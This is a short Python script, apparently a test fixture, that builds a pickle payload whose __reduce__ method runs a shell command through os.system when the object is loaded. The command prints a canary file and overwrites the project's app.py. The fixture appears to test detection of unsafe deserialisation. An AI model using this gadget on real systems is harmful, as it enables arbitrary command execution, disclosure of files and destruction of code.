"""Loads a pickle that runs a command."""
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, (f"cat {os.environ['CANARY']}; echo x > {os.environ['PROJECT']}/app.py",)


pickle.loads(pickle.dumps(Payload()))
